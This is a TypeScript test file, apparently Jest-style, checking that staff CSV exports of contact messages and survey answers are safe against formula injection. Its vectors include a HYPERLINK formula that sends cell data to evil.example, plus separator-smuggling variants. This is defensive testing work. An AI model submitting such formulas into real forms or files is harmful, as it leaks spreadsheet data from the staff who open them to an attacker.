// What strangers send through the forms themselves, in the files that staff open in a spreadsheet.
import { seedDemo } from '#app/demo/seed';
import { signInAs } from '#app/test/staff-client';
import { startTestApp, type TestApp } from '#app/test/test-app';

const RUNS = 'HYPERLINK("http://evil.example?"&A1)';
const VECTORS = [
  ...['=', '+', '-', '@', ' =', '\t=', '\n=', '＝', '＋', '－', '＠'].map((start) => start + RUNS),
  `Call me;=${RUNS}`,
  `Call me,=${RUNS}`,
  `Call me";=${RUNS}`,
  `Call me\t=${RUNS}`,
];

let test: TestApp;
beforeAll(async () => {
  test = await startTestApp();
  await seedDemo(test.database, () => test.clock.now);
}, 60_000);
afterAll(() => test.close());

/** Cells as a spreadsheet parts them, in which a quote counts only where a cell begins. */
function cellsOf(text: string, separators: string): string[] {
  const cell = new RegExp(`(?:^|[${separators}]|\\r?\\n)(?:"((?:[^"]|"")*)"|([^${separators}\\r\\n]*))`, 'g');
  return [...text.replace(/^\uFEFF/, '').matchAll(cell)].map(
    ([, quoted, plain = '']) => quoted?.replaceAll('""', '"') ?? plain,
  );
}
const isFormula = (cell: string) => /^\s*[=+\-@＝＋－＠]/.test(cell) && Number.isNaN(Number(cell));

async function exported(url: string): Promise<string> {
  const file = await (await signInAs(test, 'admin')).get(url);
  expect([file.statusCode, file.headers['content-type']]).toEqual([200, 'text/csv; charset=utf-8']);
  return file.body;
}

/** Sends each text through one form. */
async function sendAll(url: string, bodyOf: (text: string) => object): Promise<void> {
  for (const text of VECTORS) {
    const answer = await test.send('POST', url, bodyOf(text));
    expect([text, answer.statusCode, answer.statusCode < 300 || answer.body]).toEqual([
      text,
      expect.any(Number),
      true,
    ]);
  }
}

beforeAll(async () => {
  await sendAll('/api/contact-us/', (text) => ({
    name: text,
    phone: '0733111222',
    region: 'Kibera',
    subject: 'Report an issue',
    message: text,
  }));
  await sendAll('/api/survey-results/', (text) => ({
    survey: 'taste-the-menu',
    responses: { dish: text, [text]: text },
  }));
}, 60_000);

it.each([
  ['the list of messages', '/api/staff/inbox-export/?kind=contact'],
  ['the messages', '/api/staff/inbox-answers/?form=contact'],
  ['the answers of a survey', '/api/staff/surveys/taste-the-menu/export.csv'],
])('no cell of %s is a formula, however a spreadsheet parts them', async (_, url) => {
  const text = await exported(url);
  expect(text).toContain('HYPERLINK');
  for (const separators of [',', ',;\\t']) expect(cellsOf(text, separators).filter(isFormula)).toEqual([]);
});
